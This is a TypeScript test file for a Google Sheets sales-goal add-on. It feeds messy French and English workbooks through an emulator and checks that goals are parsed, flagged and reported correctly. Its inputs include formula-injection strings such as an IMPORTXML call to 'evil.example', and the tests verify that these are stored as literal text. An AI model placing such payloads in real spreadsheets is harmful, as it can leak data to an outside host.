/**
 * Red-team workbooks as sales managers really keep them, run through the
 * BUILT add-on on the emulator: a title above the header, unusual French
 * headers, blank rows, hidden and extra columns, merged cells, formulas and
 * error values, numbers and dates typed as fr_FR text, duplicate IDs, parent
 * loops, a missing KPI tab, formula-injection strings.
 */
import { describeDifferences, diffSnapshots, snapshotCells } from '../../../src/local/emulator';
import { OUTPUT_COLUMNS, outputHeader } from '../../../src/core/workbook/output';
import type { CheckSummary } from '../../../src/core/workbook/types';
import { addSheet, harness, leaksIn, ownedColumnLetters, TODAY, type Harness } from './harness';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;
type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;

const HEADERS = [...OUTPUT_COLUMNS.map((c) => outputHeader(c, 'en')), ...OUTPUT_COLUMNS.map((c) => outputHeader(c, 'fr'))];
const GOALS = 'Objectifs commerciaux 2027';
const INJECTIONS = ['=IMPORTXML("http://evil.example/x","//a")', '+1', '-1', '@foo'];

function frDate(year: number, month: number, day: number): string {
  return `${String(day).padStart(2, '0')}/${String(month).padStart(2, '0')}/${year}`;
}

/** Monthly new accounts typed as fr text dates, unsorted, with a "Total" row and a comment row among them. */
function monthlyAccounts(): unknown[][] {
  const rows: unknown[][] = [];
  for (let i = 0; i < 30; i++) {
    const month = (i % 12) + 1;
    rows.push([frDate(2024 + Math.floor(i / 12), month, 1), 8 + (month % 3) + i * 0.1]);
  }
  rows.splice(5, 0, ['Total', 999]);
  rows.splice(9, 0, ['note : changement de CRM', '']);
  [rows[3], rows[10]] = [rows[10], rows[3]];
  return [['Mois', 'Valeur'], ...rows];
}

/** Weekly tab with three series: a rate typed "25 %", a count, an amount typed "12 000,5". */
function weeklyKpis(): unknown[][] {
  const rows: unknown[][] = [['Semaine', 'Taux de conclusion', 'Leads', 'CA (€)']];
  for (let i = 0; i < 60; i++) rows.push([new Date(Date.UTC(2025, 8, 1 + 7 * i)), `${24 + (i % 4)} %`, 100 + i, `${12000 + i * 50},5`]);
  return rows;
}

function messyFrench(): { h: Harness; goals: Sheet } {
  const h = harness({ spreadsheetLocale: 'fr_FR', userLocale: 'fr' });
  addSheet(h.emulator, 'Nouveaux comptes', monthlyAccounts());
  addSheet(h.emulator, 'KPI hebdo', weeklyKpis());
  const goals = addSheet(h.emulator, GOALS, [
    ['Plan commercial 2027'],
    [],
    ['Réf', 'Objectif SMART', 'KPI suivi', 'Responsable commercial', 'Valeur actuelle', 'Valeur cible', "Date d'échéance", 'Objectif parent', 'Commentaire', 'Secret'],
    ['A', "Signer 120 nouveaux comptes d'ici fin 2027", 'Nouveaux comptes', 'Équipe Nord', '', '120', '31/12/2027', '', 'ok', 'x'],
    ['A1', 'Signer 20 nouveaux comptes au T1 2027', 'Nouveaux comptes', 'Équipe Nord', '', '20', '31/03/2027', 'A', '', ''],
    [],
    ['A2', 'Signer 30 nouveaux comptes au T2 2027', 'Nouveaux comptes', 'Équipe Nord', '', '30', '30/06/2027', 'A', '', ''],
    ['B', "Passer le taux de conclusion de 25 % à 30 % d'ici fin mars 2027", 'Taux de conclusion', 'Alice', '25 %', '30', '31/03/2027', '', '', ''],
    // Typed with the apostrophe that keeps them text in Sheets.
    ['D', `'${INJECTIONS[0]}`, 'KPI inexistant', `'${INJECTIONS[1]}`, `'${INJECTIONS[2]}`, `'${INJECTIONS[3]}`, '30/06/2027', '', '', ''],
    ['E', 'Augmenter le CA hebdo de 10 %', 'CA (€)', 'Carla', '1 234,5', '', 'bientôt', 'E2', '', ''],
    ['E2', 'Sous objectif', 'CA (€)', 'Carla', '', '', '30/06/2027', 'E', '', ''],
    ['A', "Doublon d'identifiant", 'Leads', '', '', '500', '31/12/2027', 'ZZZ', '', ''],
  ]);
  goals.getRange('A1:J1').merge();
  goals.getRange('J4').setFormula('=1/0');
  goals.getRange('I5').setFormula('=A4&"-x"');
  goals.getRange('F11').setValue('#DIV/0!');
  goals.getRange('I4').setNote('note utilisateur');
  goals.getRange('D4').setBackground('#ffff00');
  goals.hideColumns(10);
  return { h, goals };
}

function letterOf(cell: string): string {
  return cell.replace(/\d+$/, '');
}

describe('a messy French goals tab (title, blank rows, hidden/extra columns, formulas, fr text numbers)', () => {
  const { h, goals } = messyFrench();
  const spreadsheet = h.emulator.spreadsheet as unknown as Spreadsheet;
  const before = snapshotCells(h.emulator.spreadsheet);
  const summary = h.run<CheckSummary>('checkGoals');
  const afterCheck = snapshotCells(h.emulator.spreadsheet);
  const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
  const report = spreadsheet.getSheetByName(sheetName) as Sheet;
  const reportValues = report.getDataRange().getValues();
  const reportText = reportValues.flat().map(String);
  const rowOf = (id: string, nth = 0): unknown[] => goals.getDataRange().getValues().filter((r) => r[0] === id)[nth];
  const header = goals.getRange(3, 1, 1, goals.getLastColumn()).getValues()[0] as string[];
  const col = (name: string): number => header.indexOf(name);

  it('finds the header under the title and reads every goal row', () => {
    expect(summary.sheetName).toBe(GOALS);
    expect(summary.total).toBe(8);
    expect(summary.checked).toBe(8);
  });

  it('changes nothing but its own columns, and the report sheet leaves every other tab alone', () => {
    const owned = ownedColumnLetters(h.emulator, GOALS, HEADERS);
    expect(owned.size).toBe(OUTPUT_COLUMNS.length);
    const ignore = (sheet: string, cell: string): boolean => sheet === GOALS && owned.has(letterOf(cell));
    expect(describeDifferences(diffSnapshots(before, afterCheck, { ignore }))).toEqual(describeDifferences([]));
    const afterReport = snapshotCells(h.emulator.spreadsheet, { sheets: before.order });
    expect(describeDifferences(diffSnapshots(before, afterReport, { ignore }))).toEqual(describeDifferences([]));
  });

  it('flags a duplicate ID on both rows, with the rows named', () => {
    for (const nth of [0, 1]) expect(String(rowOf('A', nth)[col('Remarques SMART')])).toContain('L’ID «\u202fA\u202f» figure sur plusieurs lignes (4, 12)');
    expect(summary.alignmentProblems.map((p) => p.message)).toContain('L’ID «\u202fA\u202f» figure sur plusieurs lignes (4, 12)\u202f; la colonne Parent renvoie à la première (ligne 4).');
  });

  it('flags a Parent loop on every goal of the loop and suggests repairing the IDs', () => {
    for (const id of ['E', 'E2']) {
      expect(String(rowOf(id)[col('Remarques SMART')])).toContain('La colonne Parent tourne en boucle (E2 → E → E2)');
      expect(rowOf(id)[col('Contrôle')]).toBe('⚠ À revoir');
    }
    // Recommendations are stacked (goal, then its problem and fix rows) to fit a printed page's width.
    const recommendation = reportValues.findIndex((r, i) => r[0] === 'E2' && reportValues.slice(i + 1, i + 3).some((next) => next[0] === 'Correction' && String(next[1]).includes('Donnez à chaque objectif son propre ID')));
    expect(recommendation).toBeGreaterThan(0);
  });

  it('does not call partial sub-goals "adding up" in the tree', () => {
    const treeRow = reportValues.find((r) => r[0] === 'A' && typeof r[4] === 'string' && r[3] === 50) as unknown[];
    expect(treeRow).toBeDefined();
    expect(String(treeRow[4])).not.toMatch(/^✓/);
    expect(String(rowOf('A1')[col('R – Pertinent')])).toBe('OK');
  });

  it('says when a proposed split rests on quarter averages rather than past years', () => {
    const split = reportValues.find((r) => r[0] === 'A' && r[1] === "Doublon d'identifiant" && typeof r[2] === 'number') as unknown[];
    expect((split.slice(2, 6) as number[]).reduce((a, b) => a + b, 0)).toBe(500);
    expect(split[6]).toBe('moyennes trimestrielles (aucune année passée complète)');
  });

  it('charts a total goal without a start from the end of its history, as Check goals counts it (not from the first month)', () => {
    const title = reportValues.findIndex((r) => r[0] === 'Nouveaux comptes');
    const data = reportValues.slice(title + 2, title + 6);
    // fixes35: the running total has no point inside the chart's window here, so its empty column is left out (no empty legend entry).
    const forecast = reportValues[title + 1].indexOf('Prévision');
    // The dates' header names the KPI's period (monthly here): the date axis's title in Sheets, inferred from the header (fixes39).
    expect(reportValues[title + 1].slice(0, 2)).toEqual(['Mois', 'Prévision']);
    expect(data[0][forecast]).toBe(0);
    expect(Math.max(...data.map((r) => Number(r[forecast]) || 0))).toBeLessThan(120);
    const chart = report.getCharts().map((c) => c.getRanges()[0].getA1Notation());
    // At most two target lines (goals sharing a target and horizon share one): the chart data fits the printed page's seven columns.
    // (review12 M3: the quarterly sub-goals « au T1/T2 2027 » now count from their quarter's first day, so only the
    // annual goal's line is drawn on this cumul from the end of the history: F, where it was G.)
    const end = reportValues.findIndex((r, i) => i > title && r[0] === '');
    expect(chart.filter((a) => a === `A${title + 2}:E${end}` || a === `A${title + 2}:F${end}`)).toHaveLength(1);
  });

  it('writes injection strings back as literal text everywhere', () => {
    const d = rowOf('D');
    expect(d[1]).toBe(INJECTIONS[0]);
    const cells = report.getDataRange();
    const formulas = cells.getFormulas().flat().filter((f) => f !== '');
    expect(formulas).toEqual([]);
    expect(reportText).toContain(INJECTIONS[0]);
    expect(reportText).toContain(INJECTIONS[1]);
    const resultFormulas = goals.getRange(1, 11, goals.getLastRow(), OUTPUT_COLUMNS.length).getFormulas().flat().filter((f) => f !== '');
    expect(resultFormulas).toEqual([]);
  });

  it('leaves no placeholder, raw message key, undefined, NaN, null or [object Object] in any written cell', () => {
    const results = goals.getRange(1, 11, goals.getLastRow(), OUTPUT_COLUMNS.length).getValues();
    expect([...leaksIn(results, GOALS), ...leaksIn(reportValues, sheetName), ...leaksIn(report.getDataRange().getDisplayValues(), `${sheetName} (display)`)]).toEqual([]);
  });

  // Review 9, D3: the report is no longer replaced (the user may have typed on it): a re-run adds "… (2)".
  it('re-runs in place: no new column, rule or metadata; the report goes to a new sheet', () => {
    const width = goals.getLastColumn();
    const rules = goals.getConditionalFormatRules().length;
    const sheets = spreadsheet.getSheets().map((s) => s.getName());
    h.run('checkGoals');
    h.run('generatePlanReport');
    expect(goals.getLastColumn()).toBe(width);
    expect(goals.getConditionalFormatRules()).toHaveLength(rules);
    expect(spreadsheet.getSheets().map((s) => s.getName())).toEqual([...sheets, `${sheetName} (2)`]);
  });
});

describe('plain English tabs: no goal, one goal, a KPI tab that does not exist', () => {
  function run(goalRows: unknown[][], kpis: Record<string, unknown[][]> = {}) {
    const h = harness({ spreadsheetLocale: 'en_US', userLocale: 'en' });
    for (const [name, rows] of Object.entries(kpis)) addSheet(h.emulator, name, rows);
    const goals = addSheet(h.emulator, 'Sales Goals', goalRows);
    const summary = h.run<CheckSummary>('checkGoals');
    const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
    const report = (h.emulator.spreadsheet as unknown as Spreadsheet).getSheetByName(sheetName) as Sheet;
    return { h, goals, summary, report, values: report.getDataRange().getValues() };
  }

  it('a tab with headers only says there is no goal row, in the summary and the report', () => {
    const { summary, values } = run([['Goal', 'Owner', 'Target', 'Deadline']]);
    expect(summary.message).toMatch(/^No goal rows under the header row of "Sales Goals"/);
    expect(values.flat()).toContain('No goal rows in the goals tab yet.');
    expect(leaksIn(values, 'report')).toEqual([]);
  });

  it('a daily revenue goal shows a visible required pace (not "+$0")', () => {
    const daily: unknown[][] = [['Date', 'Revenue ($)']];
    for (let i = 0; i < 400; i++) daily.push([new Date(Date.UTC(2025, 9, 1 + i)), 1000 + 200 * Math.sin(i / 7) + i]);
    const { values } = run([['Goal', 'Owner', 'Target', 'Deadline'], ['Reach $1,500 daily revenue by June 30, 2027', 'Ann', 1500, '6/30/2027']], { 'Daily KPIs': daily });
    const goalRow = values.find((r) => r[1] === 'Reach $1,500 daily revenue by June 30, 2027' && r[4] !== '') as unknown[];
    expect(goalRow[4]).toMatch(/per day$/);
    expect(goalRow[4]).not.toMatch(/^\+\$?0 /);
    expect(leaksIn(values, 'report')).toEqual([]);
  });

  it('a KPI the workbook has no tab for is named as the user typed it', () => {
    const { goals, values } = run([['ID', 'Goal', 'KPI', 'Target value', 'Due date'], ['X', 'Grow MRR to 50k by Q2 2027', 'MRR', '50,000', '6/30/2027']]);
    const notes = goals.getRange(2, goals.getLastColumn()).getValue();
    expect(notes).toContain('No KPI tab found for "MRR"');
    expect(values.find((r) => r[0] === 'X')?.[3]).toBe('MRR');
  });
});

test('the leak scanner catches what it looks for', () => {
  expect(TODAY).toBe('2026-11-26');
  expect(leaksIn([['plan.tree.fits', 'x undefined', Number.NaN, '[object Object]', 'Goal {id}', 'null', 'ok']], 't')).toHaveLength(6);
});

describe.each(['en', 'fr'] as const)('the example workbook in %s: every written cell is clean', (lang) => {
  const h = harness({ spreadsheetLocale: lang === 'fr' ? 'fr_FR' : 'en_US', userLocale: lang });
  h.run('insertExampleWorkbook');
  h.run('checkGoals');
  const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
  const spreadsheet = h.emulator.spreadsheet as unknown as Spreadsheet;

  it('has no placeholder, message key, undefined, NaN, null or [object Object] in any tab', () => {
    const leaks = spreadsheet.getSheets().flatMap((sheet) => [...leaksIn(sheet.getDataRange().getValues(), sheet.getName()), ...leaksIn(sheet.getDataRange().getDisplayValues(), `${sheet.getName()} (display)`)]);
    expect(leaks).toEqual([]);
  });

  it('writes no number format that Sheets would show with a trailing point ("120.")', () => {
    const goals = spreadsheet.getSheets()[0];
    const report = spreadsheet.getSheetByName(sheetName) as Sheet;
    const formats = [...report.getDataRange().getNumberFormats().flat(), ...goals.getDataRange().getNumberFormats().flat()];
    expect(formats.filter((f) => /\.#/.test(f) && f !== '0.###############')).toEqual([]);
  });

  it('records one chart per KPI with a goal, each on a block of its own data in the report', () => {
    const report = spreadsheet.getSheetByName(sheetName) as Sheet;
    const charts = report.getCharts();
    expect(charts.length).toBeGreaterThanOrEqual(4);
    for (const chart of charts) {
      const range = chart.getRanges()[0];
      const header = range.offset(0, 0, 1, range.getNumColumns()).getValues()[0];
      // The Bottom-up check's range bars (issue 13) read their own block: goal · reading, then shares of the target.
      if (header[0] === (lang === 'fr' ? 'Objectif · lecture' : 'Goal · reading')) {
        expect(header[1]).toBe(lang === 'fr' ? 'Début de la fourchette' : 'Range starts at');
        continue;
      }
      // Date, then the series that have values, in this order (fixes35: an empty one is left out of the chart and its legend).
      const names = lang === 'fr' ? ['Historique|Cumul', 'Prévision', 'Bas \\(80\u202f%\\)', 'Haut \\(80\u202f%\\)'] : ['History|Running total', 'Forecast', 'Low \\(80%\\)', 'High \\(80%\\)'];
      // The dates' header names the KPI tab's period: the date axis's title, as Sheets infers it from the header (fixes39).
      expect(lang === 'fr' ? ['Jour', 'Semaine', 'Mois', 'Trimestre', 'Année'] : ['Day', 'Week', 'Month', 'Quarter', 'Year']).toContain(header[0]);
      expect(header.slice(1).join('\n')).toMatch(new RegExp(`^${names.map((n) => `(?:(?:${n})\n)?`).join('')}`));
      expect(header).toContain(lang === 'fr' ? 'Prévision' : 'Forecast');
      const dates = range.offset(1, 0, range.getNumRows() - 1, 1).getValues().flat();
      expect(dates.every((d) => typeof d === 'number' || Object.prototype.toString.call(d) === '[object Date]')).toBe(true);
    }
  });
});

test('a team cell merged down beside its goals is the owner of each of them', () => {
  const h = harness({ spreadsheetLocale: 'en_US', userLocale: 'en' });
  const goals = addSheet(h.emulator, 'Goals', [
    ['ID', 'Goal', 'Owner', 'Target', 'Deadline'],
    ['N1', 'Close 20 new accounts in Q1 2027', 'North team', 20, '3/31/2027'],
    ['N2', 'Close 25 new accounts in Q2 2027', '', 25, '6/30/2027'],
    ['N3', 'Close 30 new accounts in Q3 2027', '', 30, '9/30/2027'],
    ['S1', 'Close 10 new accounts in Q1 2027', 'South team', 10, '3/31/2027'],
  ]);
  goals.getRange('C2:C4').merge();
  const before = snapshotCells(h.emulator.spreadsheet);
  h.run('checkGoals');
  const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
  const report = (h.emulator.spreadsheet as unknown as Spreadsheet).getSheetByName(sheetName) as Sheet;
  const byOwner = report.getDataRange().getValues().find((r) => r[0] === 'North team');
  expect(byOwner?.[1]).toBe(3);
  const after = snapshotCells(h.emulator.spreadsheet, { sheets: ['Goals'] });
  expect(after.sheets.Goals.merges).toEqual(before.sheets.Goals.merges);
  expect(after.sheets.Goals.cells.C3).toEqual(before.sheets.Goals.cells.C3);
});

describe('a seeded jumble of 300 goal rows (junk, injections, odd numbers and dates)', () => {
  let seed = 12345;
  const random = (): number => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed / 2147483648;
  };
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];
  const statements = [
    "Signer 120 nouveaux comptes d'ici fin 2027",
    'Raise our weekly close rate from 25% to 30% by March 31, 2027',
    'Réduire le churn de 45 % à 20 % au prochain trimestre',
    'Increase revenue',
    '',
    '=IMPORTXML("http://evil.example","//a")',
    '+33 6 12 34 56 78',
    '-10 % de coûts',
    '@channel please update',
    '#N/A',
    'Total',
    '   ',
    'Atteindre 1 500 000 € de CA en 2027',
    'Close 40 deals in Q2 2027',
  ];
  const kpis = ['Leads', 'Close rate', 'Taux de conclusion', 'KPI inexistant', '', '=1+1', 'CA'];
  const numbers = ['', '25 %', '0,3', '30', '1 234,5', '1 500 €', 'n/a', '#DIV/0!', '-1', '@x', 120, 0.25, 3000];
  const dates = ['', '30/06/2027', '2027-12-31', 'Q2 2027', 'bientôt', 'fin 2027', '31 décembre 2027', 46203, '06/30/2027'];
  const ids = ['', 'A', 'B', 'C', 'A1', 'X', '=A1', '1', '2'];
  const rows: unknown[][] = [['Réf', 'Objectif SMART', 'KPI suivi', 'Responsable', 'Valeur actuelle', 'Valeur cible', "Date d'échéance", 'Objectif parent', 'Commentaire']];
  for (let i = 0; i < 300; i++) {
    const text = (value: unknown): unknown => (typeof value === 'string' && /^[=+\-@]/.test(value) ? `'${value}` : value);
    rows.push(random() < 0.05 ? [] : [text(pick(ids)), text(pick(statements)), text(pick(kpis)), text(pick(['Alice', '', '+1', 'Équipe Nord'])), text(pick(numbers)), text(pick(numbers)), pick(dates), text(pick(ids)), pick(['', 'ok', '=1/0'])]);
  }
  const h = harness({ spreadsheetLocale: 'fr_FR', userLocale: 'fr' });
  const weeks: unknown[][] = [['Semaine', 'Taux de conclusion', 'Leads']];
  for (let i = 0; i < 80; i++) weeks.push([new Date(Date.UTC(2025, 4, 5 + 7 * i)), 0.22 + 0.01 * (i % 5), 100 + (i % 7)]);
  addSheet(h.emulator, 'KPI', weeks);
  const goals = addSheet(h.emulator, 'Objectifs', rows);
  const before = snapshotCells(h.emulator.spreadsheet);
  const summary = h.run<CheckSummary>('checkGoals');
  const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
  const report = (h.emulator.spreadsheet as unknown as Spreadsheet).getSheetByName(sheetName) as Sheet;

  it('checks every row without a crash and changes no user cell', () => {
    expect(summary.complete).toBe(true);
    expect(summary.checked).toBeGreaterThan(200);
    const owned = ownedColumnLetters(h.emulator, 'Objectifs', HEADERS);
    const after = snapshotCells(h.emulator.spreadsheet, { sheets: before.order });
    expect(describeDifferences(diffSnapshots(before, after, { ignore: (sheet, cell) => sheet === 'Objectifs' && owned.has(letterOf(cell)) }))).toEqual(describeDifferences([]));
  });

  it('writes no formula and leaks nothing', () => {
    const results = goals.getRange(1, 10, goals.getLastRow(), OUTPUT_COLUMNS.length);
    expect(results.getFormulas().flat().filter((f) => f !== '')).toEqual([]);
    expect(report.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
    expect([...leaksIn(results.getValues(), 'Objectifs'), ...leaksIn(report.getDataRange().getValues(), sheetName), ...leaksIn(report.getDataRange().getDisplayValues(), sheetName)]).toEqual([]);
  });
});
